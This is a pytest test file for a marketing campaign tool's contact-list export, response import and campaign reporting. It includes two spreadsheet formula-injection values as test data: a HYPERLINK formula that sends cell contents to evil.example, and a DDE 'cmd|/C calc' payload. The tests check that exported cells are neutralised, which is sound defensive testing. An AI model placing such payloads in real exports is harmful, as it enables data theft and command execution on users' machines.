"""Contact lists for offline channels on a real Redis, a real CRM import and a trained model:
the export's audience, order and groups, the control group held back, spreadsheet-safe cells,
and responses that feed the campaign report once per person."""

from __future__ import annotations

import csv
import time
from collections import Counter
from dataclasses import replace
from pathlib import Path

import numpy as np
import orjson
import pyarrow as pa
import pyarrow.csv as pacsv
import pytest
from click.testing import CliRunner

from campaigns import definitions as cmp
from campaigns.assignment import CONTROL, HOLDOUT, TREATED, Assigner, Touch, draw
from campaigns.contact_files import ContactListError, truthy
from campaigns.contacts import ExportOptions, export_contacts
from campaigns.report import campaign_report
from campaigns.responses import parse_time
from models import registry
from models.bundle import load_bundle
from models.features import ZipLookup
from models.pipeline import train_and_register
from models.synthetic import SyntheticConfig, SyntheticTenant
from models.training import TrainParams
from store.tenants import get_tenant, rotate_keys, update_tenant
from tests.synth_world import World, make_world

# Training a small tenant cross-validates its candidates (models/training/selection.py):
# minutes on a busy shared 2-core machine.
pytestmark = pytest.mark.timeout(1200)

FORMULA_ID = '=HYPERLINK("http://evil.example/?"&A1)'
OPT_OUT_VALUES = ["yes", "Y", "1", "true", "no", "", "0", "no", "no", "no"]
DAY = 86400.0


def _flag(i: int) -> str:
    return OPT_OUT_VALUES[i % len(OPT_OUT_VALUES)]


def _edit(data: SyntheticTenant) -> None:
    """An opt_out column (about 4 in 10 out, in every spelling), and one customer whose id a
    spreadsheet would run as a formula (one without holdings or web visits, so nothing else
    refers to the id)."""
    plain = next(
        i
        for i in range(len(data.customer_ids) // 2)
        if not data.holds[i].any() and not data.has_web[i] and not truthy(_flag(i))
    )
    data.customer_ids[plain] = FORMULA_ID
    ids = data.customers.column("customer_id").to_pylist()
    ids[plain] = FORMULA_ID
    customers = data.customers.set_column(0, "customer_id", pa.array(ids))
    flags = [_flag(i) for i in range(customers.num_rows)]
    data.customers = customers.append_column("opt_out", pa.array(flags))


@pytest.fixture(scope="module")
def world(redis_server, shared_data, geo_dir, tmp_path_factory) -> World:
    config = SyntheticConfig(customers=1500, products=3, dead_products=0, web_share=0.3, seed=5)
    made = make_world(redis_server, shared_data, geo_dir, tmp_path_factory.mktemp("contacts"),
                      config, tenant="shop", edit=_edit)  # fmt: skip
    train_and_register(
        made.r, made.settings, made.tenant, params=TrainParams(max_rounds=40, early_stopping=8)
    )
    return made


@pytest.fixture
def cli(world, monkeypatch):
    from app.cli import cli as root
    from store.redis_client import reset_clients

    monkeypatch.setenv("REDIS_URL", world.url)
    monkeypatch.setenv("OFFERWISE_DATA_DIR", str(world.settings.data_dir))
    monkeypatch.setenv("OFFERWISE_GEO_DIR", str(world.settings.geo_dir))
    reset_clients()
    runner = CliRunner()
    yield lambda *args: runner.invoke(root, [str(a) for a in args])
    reset_clients()


def create(world: World, name: str, **body) -> cmp.Campaign:
    body = {"name": name, "offer": {"product_id": "p0"}, "channel": {"type": "email"}, **body}
    facts = cmp.tenant_facts(world.r, world.tenant, lambda: None)
    return cmp.create_campaign(world.r, world.tenant, body, facts)


def read(path: Path) -> list[dict]:
    with path.open(newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def facts_by_hash(world: World) -> dict[str, dict]:
    """What the synthetic data knows of each customer, by customer hash."""
    tenant = get_tenant(world.r, world.tenant)
    flags = world.data.customers.column("opt_out").to_pylist()
    return {
        tenant.hash_customer_id(c): {
            "id": c,
            "holds": {world.data.products[j] for j in np.flatnonzero(world.data.holds[i])},
            "opted_out": truthy(flags[i]),
        }
        for i, c in enumerate(world.data.customer_ids)
    }


def test_export_holds_back_the_control_group_and_leaves_out_holders_and_opted_out(
    world, cli, tmp_path
):
    c = create(world, "Autumn mail", control_share=0.3, cost_per_contact=1.5)
    out = tmp_path / "list.csv"
    res = cli("campaign", "export", "--tenant", world.tenant, "Autumn mail", "--out", out)
    assert res.exit_code == 0, res.output
    summary = orjson.loads(res.stdout)
    treated, control = read(out), read(tmp_path / "list.control.csv")
    assert {r["group"] for r in treated} == {TREATED} and {r["group"] for r in control} == {CONTROL}
    assert (summary["treated"], summary["control"]) == (len(treated), len(control))

    known = facts_by_hash(world)
    listed = [r["customer_hash"] for r in treated + control]
    eligible = {h for h, f in known.items() if "p0" not in f["holds"] and not f["opted_out"]}
    assert set(listed) == eligible and len(listed) == len(set(listed))
    excluded = summary["excluded"]
    assert excluded["holders"] == sum("p0" in f["holds"] for f in known.values())
    assert excluded["opted_out"] == sum(
        f["opted_out"] and "p0" not in f["holds"] for f in known.values()
    )
    assert summary["opt_out_columns"] == {"crm": "opt_out", "customers_file": None}

    # The control share is respected: about 30% (5 standard errors on ~800 people).
    share = len(control) / len(listed)
    assert abs(share - 0.3) < 5 * (0.3 * 0.7 / len(listed)) ** 0.5, share
    secret = get_tenant(world.r, world.tenant).id_secret
    for row in treated + control:
        assert row["group"] == draw(secret, c.id, f"c:{row['customer_hash']}", 0.3)
    # Best first, in each file; deciles from the model's holdout cuts (1 at the top).
    for rows in (treated, control):
        scores = [float(r["score"]) for r in rows]
        assert scores == sorted(scores, reverse=True)
        deciles = [int(r["decile"]) for r in rows]
        assert deciles == sorted(deciles) and set(deciles) <= set(range(1, 11))
    assert {r["campaign"] for r in treated} == {"Autumn mail"}

    # Everyone listed is assigned and counted: the report's people are the list.
    report = campaign_report(world.r, world.tenant, c)
    assert report["treated"]["people"] == len(treated)
    assert report["control"]["people"] == len(control)
    assert report["uplift"]["cost"] == pytest.approx(1.5 * len(treated))
    assert "contact list" in report["method"]["contact_lists"]


def test_top_k_is_the_best_k_of_the_audience(world, cli, tmp_path):
    create(world, "All of them")
    create(world, "Best hundred")
    whole, best = tmp_path / "all.csv", tmp_path / "best.csv"
    assert cli("campaign", "export", "--tenant", world.tenant, "All of them",
               "--out", whole).exit_code == 0  # fmt: skip
    res = cli("campaign", "export", "--tenant", world.tenant, "Best hundred", "--out", best,
              "--top", 100)  # fmt: skip
    assert res.exit_code == 0, res.output
    ranked = sorted(
        read(whole) + read(tmp_path / "all.control.csv"),
        key=lambda r: (-float(r["score"]), r["customer_hash"]),
    )
    chosen = read(best) + read(tmp_path / "best.control.csv")
    assert len(chosen) == 100
    assert {r["customer_hash"] for r in chosen} == {r["customer_hash"] for r in ranked[:100]}
    summary = orjson.loads(res.stdout)
    assert summary["excluded"]["beyond_top"] == len(ranked) - 100
    floor = float(ranked[40]["score"])
    above = export_contacts(
        world.r, world.settings, get_tenant(world.r, world.tenant), "Best hundred",
        ExportOptions(min_score=floor),
    )  # fmt: skip
    assert above.contacts and min(c.score for c in above.contacts) >= floor


def test_the_audience_rules_are_the_ones_serving_applies(world):
    """CRM filters, states (from the customer's ZIP block) and a top-share score rule."""
    tenant = get_tenant(world.r, world.tenant)
    create(world, "Everyone", control_share=0.0)
    everyone = export_contacts(world.r, world.settings, tenant, "Everyone", ExportOptions())
    zips = ZipLookup(world.settings)
    ids = world.data.customers.column("customer_id").to_pylist()
    channel = dict(zip(ids, world.data.customers.column("channel").to_pylist(), strict=True))
    state = {
        tenant.hash_customer_id(c): (zips.block(z) or {}).get("state_code")
        for c, z in zip(ids, world.data.zips, strict=True)
    }
    states = Counter(state.values()).most_common(3)
    wanted = sorted(s for s, _ in states if s)
    audience = {
        "crm": [{"attribute": "channel", "op": "in", "value": ["store", "phone"]}],
        "states": wanted,
        "score": {"product_id": "p0", "top_share": 0.5},
    }
    create(world, "Store neighbours", control_share=0.0, audience=audience)
    ruled = export_contacts(world.r, world.settings, tenant, "Store neighbours", ExportOptions())
    bundle = load_bundle(world.settings, world.tenant, registry.champion(world.r, world.tenant))
    floor = bundle.threshold_for_top("p0", 0.5)
    known = {tenant.hash_customer_id(c): c for c in ids}
    expected = {
        x.customer_hash
        for x in everyone.contacts
        if channel[known[x.customer_hash]] in ("store", "phone")
        and state[x.customer_hash] in wanted
        and x.score >= round(floor, 6)
    }
    got = {x.customer_hash for x in ruled.contacts}
    assert got and got == expected
    assert ruled.summary["excluded"]["not_in_audience"] == len(everyone.contacts) - len(got)


def test_a_person_served_on_the_web_keeps_their_group(world):
    c = create(world, "Web and mail", channel={"type": "web"}, control_share=0.5)
    tenant = get_tenant(world.r, world.tenant)
    known = facts_by_hash(world)
    h = next(h for h, f in known.items() if "p0" not in f["holds"] and not f["opted_out"])
    drawn = draw(tenant.id_secret, c.id, f"c:{h}", 0.5)
    earlier = CONTROL if drawn == TREATED else TREATED
    # As serving records it when the visitor's record was carried to the customer at login.
    Assigner().record(world.r, world.tenant, f"c:{h}", [Touch(c.id, earlier, True)], 0.0, 1.0)
    listed = export_contacts(world.r, world.settings, tenant, "Web and mail", ExportOptions())
    mine = next(x for x in listed.contacts if x.customer_hash == h)
    assert mine.group == earlier != drawn
    assert listed.summary["newly_assigned"] == len(listed.contacts) - 1


def test_ids_and_contacts_from_the_tenants_file_are_spreadsheet_safe(world, cli, tmp_path):
    create(world, "=Mail me", control_share=0.0)
    ids = world.data.customers.column("customer_id").to_pylist()
    half = world.data.customers.slice(0, len(ids) // 2)
    emails = [f"c{i}@example.com" for i in range(half.num_rows)]
    at = ids.index(FORMULA_ID)
    emails[at] = "@SUM(1+1)*cmd|' /C calc'!A0"
    extract = pa.table({"cust": half.column("customer_id"), "email": emails})
    path = tmp_path / "extract.csv"
    pacsv.write_csv(extract, path)
    out = tmp_path / "mail.csv"
    res = cli("campaign", "export", "--tenant", world.tenant, "=Mail me", "--out", out,
              "--customers", path, "--id-column", "cust", "--contact-column", "email")  # fmt: skip
    assert res.exit_code == 0, res.output
    rows = read(out)
    assert list(rows[0]) == ["customer_id", "score", "decile", "group", "campaign", "email"]
    formula = next(r for r in rows if r["customer_id"] == "'" + FORMULA_ID)
    assert formula["email"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert {r["campaign"] for r in rows} == {"'=Mail me"}
    # Only people of the file can be contacted; their ids are the file's.
    assert {r["customer_id"] for r in rows} <= {"'" + FORMULA_ID, *ids[: len(ids) // 2]}
    summary = orjson.loads(res.stdout)
    assert summary["excluded"]["not_in_customers_file"] > 0
    assert len(rows) + summary["control"] == summary["listed"]


def test_responses_count_once_per_person_and_feed_the_report(world, cli, tmp_path):
    c = create(world, "Winter mail", control_share=0.5, value_per_conversion=25.0)
    tenant = get_tenant(world.r, world.tenant)
    exported_at = time.time() - 10 * DAY  # the list went out ten days ago
    listed = export_contacts(
        world.r, world.settings, tenant, "Winter mail", ExportOptions(top=200), now=exported_at
    )
    known = facts_by_hash(world)
    treated = [x.customer_hash for x in listed.group(TREATED)]
    control = [x.customer_hash for x in listed.group(CONTROL)]
    holder = next(h for h, f in known.items() if "p0" in f["holds"])
    day_after = time.strftime("%Y-%m-%d", time.gmtime(exported_at + DAY))
    rows = [
        {"customer_id": known[treated[0]]["id"], "responded_at": exported_at + 3600, "value": 40},
        {"customer_hash": control[0], "responded_at": day_after},  # the campaign's value
        {"customer_id": known[treated[1]]["id"], "responded_at": exported_at + 2 * 3600},
        {"customer_id": known[treated[0]]["id"], "responded_at": exported_at + 7200, "value": 5},
        {"customer_id": "NOPE-1"},
        {"customer_id": known[holder]["id"]},  # a customer never listed
        {"customer_id": known[treated[2]]["id"]},  # now: ten days on, past the 7-day window
        {"customer_id": known[treated[3]]["id"], "responded_at": exported_at - DAY},
        {"customer_id": known[treated[4]]["id"], "value": "lots"},
    ]
    path = tmp_path / "responses.csv"
    with path.open("w", newline="") as fh:
        writer = csv.DictWriter(fh, ["customer_id", "customer_hash", "responded_at", "value"])
        writer.writeheader()
        writer.writerows(rows)

    res = cli("campaign", "responses", "--tenant", world.tenant, "Winter mail", path)
    assert res.exit_code == 3, res.output
    report = orjson.loads(res.stdout)
    assert (report["rows"], report["counted"], report["rejected"]) == (9, 3, 6)
    reasons = {e["row"]: e["reason"] for e in report["errors"]}
    assert set(reasons) == {5, 6, 7, 8, 9, 10}
    assert "one response per person" in reasons[5]
    assert reasons[6].startswith("unknown customer")
    assert reasons[7].startswith("not assigned")
    assert "attribution window" in reasons[8] and "before" in reasons[9]
    assert reasons[10].startswith("value")
    assert report["by_group"][TREATED] == {"responses": 2, "conversions": 2, "revenue": 65.0}
    assert report["by_group"][CONTROL] == {"responses": 1, "conversions": 1, "revenue": 25.0}

    def counted() -> dict:
        full = campaign_report(world.r, world.tenant, c)
        return {g: (full[g]["conversions"], full[g]["revenue"]) for g in (TREATED, CONTROL)}

    assert counted() == {TREATED: (2, 65.0), CONTROL: (1, 25.0)}
    again = cli("campaign", "responses", "--tenant", world.tenant, "Winter mail", path)
    second = orjson.loads(again.stdout)
    assert (second["counted"], second["already_imported"]) == (0, 3)
    assert counted() == {TREATED: (2, 65.0), CONTROL: (1, 25.0)}, "a re-import changed the report"


def test_what_cannot_be_exported_is_refused_clearly(world, cli, tmp_path):
    create(world, "Cart rescue", channel={"type": "web"},
           audience={"trigger": {"on": "purchase", "product_id": "p1"}})  # fmt: skip
    res = cli("campaign", "export", "--tenant", world.tenant, "Cart rescue",
              "--out", tmp_path / "x.csv")  # fmt: skip
    assert res.exit_code == 2 and "audience.trigger" in res.output
    assert not (tmp_path / "x.csv").exists()
    create(world, "Paused mail")
    cmp.set_status(world.r, world.tenant, "Paused mail", "paused")
    tenant = get_tenant(world.r, world.tenant)
    with pytest.raises(ContactListError, match="paused"):
        export_contacts(world.r, world.settings, tenant, "Paused mail", ExportOptions())
    create(world, "Named flag")
    with pytest.raises(ContactListError, match="opt_out_column"):
        export_contacts(
            world.r, world.settings, tenant, "Named flag", ExportOptions(opt_out_column="nope")
        )


def test_the_tenant_holdout_is_left_out_of_lists(world):
    c = create(world, "Holdout aware", control_share=0.0)
    update_tenant(world.r, world.tenant, holdout_share=0.5)
    try:
        tenant = get_tenant(world.r, world.tenant)
        listed = export_contacts(world.r, world.settings, tenant, "Holdout aware", ExportOptions())
    finally:
        update_tenant(world.r, world.tenant, holdout_share=0.0)
    assert listed.summary["excluded"]["holdout"] > 0
    for x in listed.contacts:
        assert draw(tenant.id_secret, HOLDOUT, f"c:{x.customer_hash}", 0.5) == TREATED
    assert campaign_report(world.r, world.tenant, c)["treated"]["people"] == len(listed.contacts)


@pytest.fixture
def api(world):
    from app import create_app
    from store.redis_client import reset_clients

    reset_clients()
    app = create_app(replace(world.settings, redis_url=world.url))
    keys = rotate_keys(world.r, world.tenant)
    yield app.test_client(), {"Authorization": f"Bearer {keys['admin_key']}"}
    reset_clients()


def test_api_export_and_responses(world, api):
    client, auth = api
    create(world, "Api mail", control_share=0.2, value_per_conversion=10.0)
    url = "/v1/admin/campaigns/Api mail/export?top=300"
    assert client.post(url).status_code == 401
    res = client.post(url, headers=auth)
    assert res.status_code == 200 and res.mimetype == "text/csv"
    rows = list(csv.DictReader(res.get_data(as_text=True).splitlines()))
    assert rows and {r["group"] for r in rows} == {TREATED}
    assert len(rows) == int(res.headers["X-Offerwise-Treated"])
    assert int(res.headers["X-Offerwise-Control"]) == 300 - len(rows)
    bad = client.post("/v1/admin/campaigns/Api mail/export?top=0", headers=auth)
    assert bad.status_code == 422 and bad.json["message"].startswith("top")
    # A response file above the small default body limit: raised for this endpoint.
    lines = ["customer_hash,value"] + [f"{r['customer_hash']},3" for r in rows]
    lines += [f"{'0' * 32},1"] * (20_000 // 35)
    body = "\n".join(lines).encode()
    assert len(body) > 16 * 1024
    assert client.post("/v1/admin/campaigns/Api mail/responses", data=body).status_code == 401
    res = client.post(
        "/v1/admin/campaigns/Api mail/responses",
        data=body,
        headers={**auth, "Content-Type": "text/csv"},
    )
    assert res.status_code == 200, res.json
    assert res.json["counted"] == len(rows) and res.json["by_group"][TREATED]["revenue"] == 3 * len(
        rows
    )
    assert set(res.json["rejected_by_reason"]) == {"unknown_customer"}
    report = client.get("/v1/admin/campaigns/Api mail/report", headers=auth).json
    assert report["treated"]["conversions"] == len(rows)


def test_response_times_as_files_write_them():
    now = 1_760_000_000.0  # 2025-10-09T08:53:20Z
    assert parse_time(None, now) == (now, now, None)
    assert parse_time("1759990000", now) == (1759990000.0, 1759990000.0, 1759990000.0)
    assert parse_time("2025-10-09T08:00:00+02:00", now)[0] == 1759989600.0
    assert parse_time("2025-10-09T06:00:00Z", now)[0] == 1759989600.0
    earliest, latest, _ = parse_time("2025-10-09", now)  # only the day: any moment of it
    assert earliest == 1759968000.0 and latest == pytest.approx(1759968000.0 + DAY, abs=0.01)
    for bad, why in (("1759990000000", "milliseconds"), ("next week", "ISO 8601"),
                     ("nan", "not a time")):  # fmt: skip
        with pytest.raises(ValueError, match=why):
            parse_time(bad, now)
